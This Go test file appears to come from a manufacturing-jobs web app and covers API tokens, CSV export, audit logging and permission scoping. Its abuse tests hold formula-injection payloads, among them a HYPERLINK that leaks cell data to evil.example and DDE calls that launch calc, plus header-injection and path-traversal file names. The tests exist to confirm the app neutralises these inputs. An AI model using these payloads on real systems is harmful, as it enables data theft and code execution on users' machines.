package web_test

import (
	"encoding/csv"
	"io"
	"mime"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"clicarity/internal/flow"
	"clicarity/internal/postgres"
	"clicarity/internal/postgres/pgtest"
)

var shownToken = regexp.MustCompile(`clc_[A-Za-z0-9_-]{64}`)

func TestATokenIsShownOnce(t *testing.T) {
	t.Parallel()
	f := openHouse(t).firm("sahyadri")
	owner := f.ownerBrowser()
	if err := f.db.AddSite(t.Context(), f.org, postgres.Site{Code: "vasai", Name: "Vasai"}); err != nil {
		t.Fatal(err)
	}
	owner.get("/tokens").says(200, "No program has been let in yet", "Create and change jobs", "Vasai", "90 days")
	if !strings.Contains(owner.body, `value="jobs:read" checked`) {
		t.Error("nothing is ticked to begin with")
	}
	form := url.Values{"command": {newID(t).String()}, "name": {"Tally  export"}, "grant": {"jobs:read", "export"}, "process": {f.process.ID.String()}, "site": {"vasai"}, "days": {"30"}}
	owner.post("/tokens", form).says(200, "The token “Tally export” is made", "Copy it now", "See jobs · Take lists out as files", "Cartons · Vasai", "never used", "made by Asha Patil")
	text := shownToken.FindString(owner.body)
	if text == "" {
		t.Fatal("the token is not shown")
	}
	owner.post("/tokens", form).says(409, "has been made and shown already")
	if shownToken.MatchString(owner.body) {
		t.Error("a token is shown again")
	}
	owner.get("/tokens").says(200, "In use", "Tally export").hides("clc_")
	list, err := f.db.Tokens(t.Context(), f.org, 10)
	if err != nil || len(list) != 1 || list[0].By != f.owner || !list[0].Given.Within(flow.Scope{All: true}) || list[0].Given.All {
		t.Fatalf("%+v %v", list, err)
	}
	owner.post("/tokens/"+list[0].ID.String()+"/revoke", nil).says(200, "The token is revoked", "Revoked")
	owner.post("/tokens/"+list[0].ID.String()+"/revoke", nil).says(404)
	owner.get("/people").says(200).hides("Tally export")
}

func TestATokensFormSaysWhatIsMissing(t *testing.T) {
	t.Parallel()
	h := openHouse(t)
	f, other := h.firm("sahyadri"), h.firm("konkan")
	owner := f.ownerBrowser()
	form := func(pairs ...string) url.Values {
		v := url.Values{"command": {newID(t).String()}, "name": {"Script"}, "grant": {"jobs:read"}, "all": {"yes"}, "days": {"90"}}
		for i := 0; i < len(pairs); i += 2 {
			if v.Del(pairs[i]); pairs[i+1] != "" {
				v.Set(pairs[i], pairs[i+1])
			}
		}
		return v
	}
	owner.post("/tokens", form("name", "")).says(422, "Say what the token is for")
	owner.post("/tokens", form("name", strings.Repeat("x", 121))).says(422, "Say what the token is for")
	owner.post("/tokens", form("grant", "")).says(422, "Tick at least one thing")
	owner.post("/tokens", form("all", "")).says(422, "Tick the processes")
	if !strings.Contains(owner.body, `value="Script"`) || !strings.Contains(owner.body, `value="jobs:read" checked`) {
		t.Error("the form lost what was typed")
	}
	owner.post("/tokens", form("days", "9999")).says(400)
	owner.post("/tokens", form("days", "")).says(400)
	owner.post("/tokens", form("grant", "members:write")).says(400)
	owner.post("/tokens", form("grant", "*")).says(400)
	owner.post("/tokens", form("process", other.process.ID.String())).says(404)
	owner.post("/tokens", form("site", "nowhere")).says(404)
	owner.post("/tokens", form("role", "owner", "org", other.org.String(), "org_id", other.org.String(), "member", f.owner.String())).says(200) // nobody reads them
	list, err := f.db.Tokens(t.Context(), f.org, 10)
	if err != nil || len(list) != 1 || list[0].Member == f.owner {
		t.Fatalf("%+v %v", list, err)
	}
	if theirs, err := f.db.Tokens(t.Context(), other.org, 10); err != nil || len(theirs) != 0 {
		t.Errorf("%+v %v", theirs, err)
	}
	other.ownerBrowser().post("/tokens/"+list[0].ID.String()+"/revoke", nil).says(404)
	operator := f.operatorBrowser()
	operator.get("/tokens").says(404)
	operator.post("/tokens", form()).says(404)
	operator.post("/tokens/"+list[0].ID.String()+"/revoke", nil).says(404)
}

// table is an export as a spreadsheet program reads it.
func (b *browser) table(path string) [][]string {
	b.t.Helper()
	r, err := b.client.Get(b.url + path)
	if err != nil {
		b.t.Fatal(err)
	}
	defer func() { _ = r.Body.Close() }()
	text, err := io.ReadAll(r.Body)
	if err != nil || r.StatusCode != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		b.t.Fatalf("%s: %d %s %v", path, r.StatusCode, text, err)
	}
	plain, marked := strings.CutPrefix(string(text), "\ufeff")
	rows, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
	if err != nil || !marked {
		b.t.Fatalf("%s: %v", path, err)
	}
	return rows
}

func (f *firm) create(p flow.Process, jobs ...flow.NewJob) {
	f.t.Helper()
	for i := range jobs {
		jobs[i].ID = newID(f.t)
	}
	mark := flow.Mark{Org: f.org, Member: f.owner, Role: flow.Owner, Scope: flow.Scope{All: true}, At: flow.At(f.clock())}
	if _, err := f.db.Do(f.t.Context(), mark, flow.Command{ID: newID(f.t), Action: flow.Create{Process: p.ID, Version: p.Version, Jobs: jobs}}); err != nil {
		f.t.Fatal(err)
	}
}

// The file has what the board has, all pages of it, and says in the audit log how much went out.
func TestTheBoardAsAFile(t *testing.T) {
	t.Parallel()
	f := openHouse(t).firm("sahyadri")
	jobs := make([]flow.NewJob, 450) // more than two pages
	for i := range jobs {
		jobs[i] = flow.NewJob{Number: "N-" + strconv.Itoa(i), Customer: "राम प्रिंटर्स", Item: "Box", Quantity: flow.Units(1000), Due: "2027-01-01"}
	}
	f.create(f.process, jobs...)
	owner := f.ownerBrowser()
	owner.tap(f.jobNumbered("N-7"), "printing", "report", "good", "400").says(200)
	owner.get("/board").says(200, "As a file (CSV)")
	rows := owner.table("/board/export?process=" + f.process.ID.String())
	if len(rows) != 451 {
		t.Fatalf("%d rows", len(rows))
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		if seen[row[0]] {
			t.Errorf("%s is there twice", row[0])
		}
		if seen[row[0]] = true; row[0] == "N-7" {
			if got := strings.Join(row, "|"); !strings.HasPrefix(got, "N-7|राम प्रिंटर्स|Box|1000|sheets|01-01-2027||") || !strings.HasSuffix(got, "Running|600|Ready|400|Waiting|") {
				t.Errorf("%s", got)
			}
		}
	}
	if got := strings.Join(rows[0], "|"); !strings.HasSuffix(got, "Printing|Printing: quantity|Lamination|Lamination: quantity|Dispatch|Dispatch: quantity") {
		t.Errorf("%s", got)
	}
	if rows := owner.table("/board/export?show=done&process=" + f.process.ID.String()); len(rows) != 1 {
		t.Errorf("completed: %v", rows)
	}
	owner.post("/language", url.Values{"language": {"hi"}})
	if rows := owner.table("/board/export?process=" + f.process.ID.String()); !strings.Contains(strings.Join(rows[0], "|"), "मात्रा") {
		t.Errorf("in Hindi: %v", rows[0])
	}
	notes := f.audited("export")
	if len(notes) != 3 || !strings.Contains(notes[0], `"rows": "450"`) || !strings.Contains(notes[0], f.owner.String()) || strings.Contains(notes[0], "N-7") {
		t.Errorf("%v", notes)
	}
	f.operatorBrowser().get("/board/export?process=" + f.process.ID.String()).says(404)
	owner.get("/board/export").says(404)
	owner.get("/board/export?process=" + newID(t).String()).says(404)
}

// What somebody typed into a job does not run in the spreadsheet of whoever opens the file.
func TestAbuseFormulaInExport(t *testing.T) {
	t.Parallel()
	f := openHouse(t).firm("sahyadri")
	for i, evil := range []string{`=HYPERLINK("http://evil.example?x="&A1,"open")`, "+91 98765 43210", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"} {
		short := string([]rune(evil)[:min(len([]rune(evil)), 20)])
		f.create(f.process, flow.NewJob{Number: short + strconv.Itoa(i), Customer: evil, Item: evil, Unit: short, Quantity: flow.One})
	}
	rows := f.ownerBrowser().table("/board/export?process=" + f.process.ID.String())
	if len(rows) != 8 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝", []rune(cell)[0]) {
				t.Errorf("a cell begins with %q: %q", cell[:1], cell)
			}
		}
	}
	for _, row := range rows[1:] {
		if row[1][0] != '\'' || row[2][0] != '\'' || row[0][0] != '\'' {
			t.Errorf("%q", row)
		}
	}
}

// A process can be called anything; the header of the file it is sent as has one name and nothing else in it.
func TestAbuseHeaderInjectionInFileNames(t *testing.T) {
	t.Parallel()
	f := openHouse(t).firm("sahyadri")
	owner := f.ownerBrowser()
	for i, name := range []string{"x\r\nSet-Cookie: evil=1", `a"; filename="evil.exe`, "../../etc/passwd", `..\..\boot.ini`, "डिब्बे", "con.exe;.csv", strings.Repeat("लंबा", 60), "\x00\x1b[31m", "%0d%0aX: y", "///"} {
		p := flow.Process{ID: newID(t), Version: 1, Name: name, Mode: flow.UnitMode, Stages: []flow.Stage{{Code: "a", Name: "A" + strconv.Itoa(i)}}}
		if strings.ContainsRune(name, 0) {
			p.Name = "\x01\x1b[31m"
		}
		if err := f.db.AddProcess(t.Context(), f.org, p); err != nil {
			t.Fatal(err)
		}
		r := owner.still(owner.url + "/board/export?process=" + p.ID.String())
		kind, values, err := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
		file := values["filename"]
		if err != nil || kind != "attachment" || len(values) != 1 || len(r.Header.Values("Content-Disposition")) != 1 || r.Header.Get("Set-Cookie") != "" || r.Header.Get("X") != "" {
			t.Errorf("%q: %v %v", name, r.Header, err)
		}
		if !strings.HasSuffix(file, ".csv") || strings.ContainsAny(file, "/\\\"\r\n;%:<>|?*\x00") || strings.Count(file, ".") != 1 || len([]rune(file)) > 80 || strings.HasPrefix(file, "-") {
			t.Errorf("%q goes out as %q", name, file)
		}
	}
}

// A manager of one site takes out the jobs of that site, without the fields that managers may not read.
func TestAbuseScopeBypassByExport(t *testing.T) {
	t.Parallel()
	f := openHouse(t).firm("sahyadri")
	p := flow.Process{ID: newID(t), Version: 1, Name: "Boxes", Mode: flow.QuantityMode, Unit: "pcs", HoldReasons: flow.StarterHolds(), Stages: []flow.Stage{{Code: "make", Name: "Make"}},
		Fields: []flow.Field{{Code: "gsm", Label: "GSM", Type: flow.NumberField}, {Code: "rate", Label: "Rate", Type: flow.TextField, For: []flow.Role{flow.Supervisor}}}}
	if err := f.db.AddProcess(t.Context(), f.org, p); err != nil {
		t.Fatal(err)
	}
	for _, site := range []string{"vasai", "pune"} {
		if err := f.db.AddSite(t.Context(), f.org, postgres.Site{Code: site, Name: site}); err != nil {
			t.Fatal(err)
		}
	}
	fields := map[string]string{"gsm": "300", "rate": "SECRET-RATE"}
	f.create(p, flow.NewJob{Number: "OWN-1", Site: "vasai", Quantity: flow.One, Fields: fields}, flow.NewJob{Number: "SECRET-1", Site: "pune", Quantity: flow.One, Fields: fields},
		flow.NewJob{Number: "SECRET-2", Quantity: flow.One, Fields: fields})
	f.create(f.process, flow.NewJob{Number: "SECRET-3", Site: "vasai", Quantity: flow.One})
	manager := postgres.Member{ID: newID(t), Name: "Meera", Role: flow.Manager, PasswordHash: "manager pass", Logins: []string{"meera@sahyadri.example"},
		Given: flow.Given{Processes: []flow.ID{p.ID}, Sites: []string{"vasai"}}, Created: f.clock()}
	if err := f.db.AddMember(t.Context(), f.org, manager); err != nil {
		t.Fatal(err)
	}
	b := f.browser().signIn("meera@sahyadri.example", "manager pass")
	for _, more := range []string{"", "&show=done", "&show=all", "&site=pune", "&after=0001-01-01." + newID(t).String(), "&process=" + f.process.ID.String(), "&sort=rate"} {
		rows := b.table("/board/export?process=" + p.ID.String() + more)
		text := strings.Join(flat(rows), "|")
		if strings.Contains(text, "SECRET") || strings.Contains(text, "Rate") || len(rows) > 2 {
			t.Errorf("%s: %s", more, text)
		}
	}
	b.get("/board/export?process=" + f.process.ID.String()).says(404)
	b.get("/tokens").says(404)
}

func flat(rows [][]string) []string {
	var all []string
	for _, r := range rows {
		all = append(all, r...)
	}
	return all
}

// clock is the time now.
func (f *firm) clock() time.Time { return time.Now() }

// audited is what the audit log says of something, in order.
func (f *firm) audited(what string) []string {
	f.t.Helper()
	rows, err := pgtest.Owner(f.t, f.database).Query(f.t.Context(), "select content from audit where org_id = $1 and what = $2 order by seq", f.org, what)
	if err != nil {
		f.t.Fatal(err)
	}
	defer rows.Close()
	var list []string
	for rows.Next() {
		var content string
		if err := rows.Scan(&content); err != nil {
			f.t.Fatal(err)
		}
		list = append(list, content)
	}
	return list
}
